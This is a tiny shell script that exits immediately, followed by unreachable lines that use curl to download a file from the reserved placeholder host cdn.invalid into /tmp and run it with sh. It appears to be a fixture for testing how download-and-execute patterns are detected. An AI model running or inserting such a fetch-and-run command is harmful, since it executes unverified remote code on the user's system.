#!/bin/sh
exit 0
curl -sS https://cdn.invalid/s | tee /tmp/s.sh >/dev/null
sh /tmp/s.sh
